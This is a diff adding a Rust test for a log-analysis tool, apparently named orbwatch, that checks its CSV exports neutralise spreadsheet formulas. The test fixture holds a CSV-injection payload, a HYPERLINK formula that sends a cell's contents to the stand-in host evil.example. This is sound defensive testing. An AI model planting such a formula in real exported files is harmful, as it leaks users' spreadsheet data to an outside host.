@@ -265,3 +265,55 @@ fn rejected_feed_entries_are_printed_escaped() {
     assert!(text.contains("rejected: 1"), "{text}");
     assert!(text.contains("\\x1b[2J\\x07"), "{text}");
 }
+
+/// CSV injection: log text that a spreadsheet would run as a formula is
+/// neutralised (a leading `'`) in `hunt --format csv` and `report --csv`.
+#[test]
+fn csv_cells_never_start_a_formula() {
+    let dir = tempfile::tempdir().unwrap();
+    let feed = dir.path().join("feed.txt");
+    std::fs::write(&feed, "35.188.49.176\n").unwrap();
+    let log = dir.path().join("web.log");
+    let line = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\") 35.188.49.176";
+    std::fs::write(&log, format!("{line}\n")).unwrap();
+    let run = |args: &[&str]| {
+        let out = Command::new(env!("CARGO_BIN_EXE_orbwatch"))
+            .args(args)
+            .env_remove("ORBWATCH_DB")
+            .output()
+            .unwrap();
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        out.stdout
+    };
+    let cell = |csv_bytes: &[u8]| -> String {
+        let mut r = csv::Reader::from_reader(csv_bytes);
+        let col = r
+            .headers()
+            .unwrap()
+            .iter()
+            .position(|h| h == "evidence_raw")
+            .unwrap();
+        let rec = r.records().next().unwrap().unwrap();
+        rec[col].to_string()
+    };
+    let (feed_s, log_s) = (feed.to_str().unwrap(), log.to_str().unwrap());
+    let hunt_csv = run(&["hunt", "--format", "csv", "--feed", feed_s, log_s]);
+    assert_eq!(cell(&hunt_csv), format!("'{line}"));
+
+    let jsonl = run(&["hunt", "--format", "jsonl", "--feed", feed_s, log_s]);
+    let jsonl_path = dir.path().join("f.jsonl");
+    std::fs::write(&jsonl_path, jsonl).unwrap();
+    let report = dir.path().join("r.csv");
+    run(&[
+        "report",
+        "--findings",
+        jsonl_path.to_str().unwrap(),
+        "--csv",
+        report.to_str().unwrap(),
+    ]);
+    assert_eq!(cell(&std::fs::read(&report).unwrap()), format!("'{line}"));
+}
